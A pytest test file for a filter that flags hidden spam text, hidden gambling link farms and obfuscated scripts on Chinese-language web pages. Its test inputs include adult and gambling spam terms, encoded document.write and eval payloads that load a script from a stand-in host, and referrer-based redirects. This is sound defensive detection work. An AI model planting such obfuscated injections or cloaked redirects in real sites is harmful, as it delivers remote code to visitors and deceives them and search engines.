import pytest

from filters.injection.lines.sheet import Sheet
from filters.injection.unseen import hidden
from filters.line import Line
from filters.model import Block, Category, Document, Link, Page

ARTICLE = "水稻插秧前要做好秧田的水分管理,避免秧块过湿。机插深度应当控制在两厘米左右。"
SPAM = "成人视频 国产自拍 久久精品 亚洲av 无码专区"


def found(**parts):
    document = Document(Line("水稻插秧要点"), [Line(ARTICLE)])
    hidden.find(Page(url="http://rice.example/1.html", **parts), document, Sheet(document.everything()))
    return document.findings


def test_hidden_spam_is_flagged_with_the_reason_why_it_is_hidden():
    (finding,) = found(hidden=[Block("首页"), Block(SPAM, hidden="display:none")])
    assert (finding.category, finding.rule, finding.field, finding.line) == (Category.HIDDEN_TEXT, "hidden.spam", "hidden", 1)
    assert finding.evidence == SPAM[finding.start : finding.end] == SPAM
    assert finding.explanation.startswith("display:none; ")
    assert finding.action == "flagged"


@pytest.mark.parametrize(
    "text",
    [
        "登录 注册 忘记密码 手机登录 微信扫一扫",
        "分享到 微信 微博 QQ空间 朋友圈",
        "首页 新闻 体育 娱乐 视频 直播 下载",
        "国产剧 日韩剧 欧美剧 在线观看 免费",
        "您的浏览器版本过低,请升级后访问本站,以便获得更好的体验。",
        "加载中,请稍候",
        "首页新闻中心体育娱乐彩票游戏视频贷款招聘下载登录注册",
        "体育西",
    ],
)
@pytest.mark.parametrize("reason", ["display:none", "off-screen", "visibility:hidden"])
def test_menus_dialogs_and_templates_are_let_be(text, reason):
    assert found(hidden=[Block(text, hidden=reason)]) == []


def test_a_lone_hidden_term_is_held_against_the_lines_that_are_shown():
    (finding,) = found(hidden=[Block("百家乐开户网址", hidden="display:none")])
    assert (finding.rule, finding.evidence) == ("hidden.spam", "百家乐开户网址")


@pytest.mark.parametrize(("size", "flags"), [(299, 0), (300, 1)])
def test_much_text_hidden_by_a_trick_is_flagged(size, flags):
    findings = found(hidden=[Block("稻" * size, hidden="text-indent")])
    assert len(findings) == flags
    assert all(f.rule == "hidden.large" and len(f.evidence) == 200 for f in findings)


def test_much_text_in_a_closed_tab_and_a_menu_off_screen_are_let_be():
    assert found(hidden=[Block("稻" * 900, hidden="display:none"), Block("栏目" * 200, link_chars=400, hidden="off-screen")]) == []


def link(text, host="other.example", hidden=False):
    return Link(f"http://{host}/", text, hidden)


def test_one_hidden_spam_link_to_another_host_is_flagged():
    (finding,) = found(links=[link("百家乐开户", hidden=True)])
    assert (finding.category, finding.rule, finding.field) == (Category.HIDDEN_LINKS, "hidden.farm", "links")
    assert finding.evidence == "百家乐开户"
    assert "other.example" in finding.explanation


@pytest.mark.parametrize(("number", "flags"), [(2, 0), (3, 1)])
def test_three_visible_spam_links_to_other_hosts_are_flagged(number, flags):
    assert len(found(links=[link("时时彩平台", f"{n}.example") for n in range(number)])) == flags


def test_links_of_the_site_itself_and_honest_partners_are_let_be():
    own = [link("百家乐开户", "www.rice.example", hidden=True)] * 4
    partners = [
        link(t, f"{n}.example", hidden=True) for n, t in enumerate(("市体育局", "福利彩票中心", "视频下载", "农业贷款", "国产种子"))
    ]
    assert found(links=own + partners) == []


@pytest.mark.parametrize(("host", "flags"), [("caipiao.portal.com.cn", 0), ("caipiao.other.com.cn", 1), ("caipiao.portal.com", 1)])
def test_another_host_of_the_pages_own_domain_is_no_other_site(host, flags):
    page = Page(url="http://sports.portal.com.cn/1.html", links=[link(t, host) for t in ("六合彩投注", "时时彩平台", "足球投注")])
    document = Document(Line("水稻插秧要点"), [Line(ARTICLE)])
    hidden.find(page, document, Sheet(document.everything()))
    assert len(document.findings) == flags


def test_customers_of_one_host_are_different_sites():
    assert len(found(links=[link("百家乐开户", "spammer.github.io", hidden=True)])) == 1


def test_an_anchor_is_judged_alike_whatever_stands_beside_it():
    spam = [link(text, f"{n}.example") for n, text in enumerate(("百家乐_开户 网址", "时时彩平台", "真人棋牌官网"))]
    beside = [link(text, f"{n}.example") for n, text in enumerate(("网址", "百家乐_开户", "水稻"), 3)]
    (alone,), (together,) = found(links=spam), found(links=[*beside, *spam])
    assert alone.evidence in together.evidence


def test_an_address_that_is_none_does_not_break_the_search():
    assert found(links=[Link("http://[", "百家乐开户", True)]) == []


@pytest.mark.parametrize(
    ("script", "rule"),
    [
        ("eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'document|write'.split('|'),0,{}))", "script.packed"),
        (r"document.write('\x3c\x73\x63\x72\x69\x70\x74 src=http://x.example/a.js>')", "script.encoded"),
        (r"window['document']['write']('\u003c\u0073\u0063\u0072\u0069\u0070\u0074>')", "script.encoded"),
        (r'window["\x64\x6f\x63\x75\x6d\x65\x6e\x74"]["\x77\x72\x69\x74\x65"]("\x3c\x73\x63\x72\x69\x70\x74>")', "script.encoded"),
        ('document.write(atob("PHNjcmlwdCBzcmM9Ii8veC5leGFtcGxlL2EuanMiPg=="))', "script.encoded"),
        ("eval(atob('bG9jYXRpb24uaHJlZj0nLy94LmV4YW1wbGUvJw'))", "script.encoded"),
        ("show(atob('aGVsbG8gd29ybGQsIHJpY2U='))", None),
        ("document.write(atob('aGVsbG8gd29ybGQsIHJpY2UhI'))", None),
        ("document.write(unescape('%3C%73%63%72%69%70%74%20%73%72%63%3D%22//x.example/a.js%22%3E'))", "script.encoded"),
        ("document.write(unescape('%3Cscript%20src%3D%22http%3A//x.example/a.js%22%3E%3C/script%3E'))", None),
        ("box.innerHTML='You are \\u003Cbr \\u002F\\u003E here'", None),
        ("var r=document.referrer;" + " " * 700 + "if(/baidu/.test(r))location.href='http://x.example'", None),
        ("if(document.referrer.indexOf('google')>0){location.href=next}", None),
        ("if(document.referrer.indexOf('google')>0){location.href='http://rice.example/hello'}", None),
        (
            r"var a=['\x62\x61\x69\x64\x75','\x72\x65\x66\x65\x72\x72\x65\x72'];if(document[a[1]].indexOf(a[0])>0)location=b",
            "script.referrer",
        ),
        ("eval(String.fromCharCode(60,115,99,114,105,112,116,62,119))", "script.encoded"),
        ("if(/baidu|sogou/i.test(document.referrer)){window.location.href='http://x.example/'}", "script.referrer"),
        ("var r=document.referrer;if(r.indexOf('baidu')>0)location.replace('http://x.example')", "script.referrer"),
        ("var r=document.referrer; report(r, location.href);", None),
        ("document.write(unescape(\"%3Cspan id='cnzz_1'%3E%3C/span%3E%3Cscript src='https://s4.cnzz.com/z.js'%3E%3C/script%3E\"))", None),
        ("document.write('<div>' + title + '</div>')", None),
        ("var text='\\u6c34\\u7a3b\\u63d2\\u79e7'; show(text)", None),
        ("location.href='/login'", None),
        ("", None),
    ],
)
def test_a_script_that_hides_what_it_does_is_told_from_one_that_does_not(script, rule):
    findings = found(scripts=["var a=1;", script])
    assert [f.rule for f in findings] == ([rule] if rule else [])
    for finding in findings:
        assert finding.category is Category.HIDDEN_SCRIPT
        assert (finding.line, script[finding.start : finding.end]) == (1, finding.evidence)
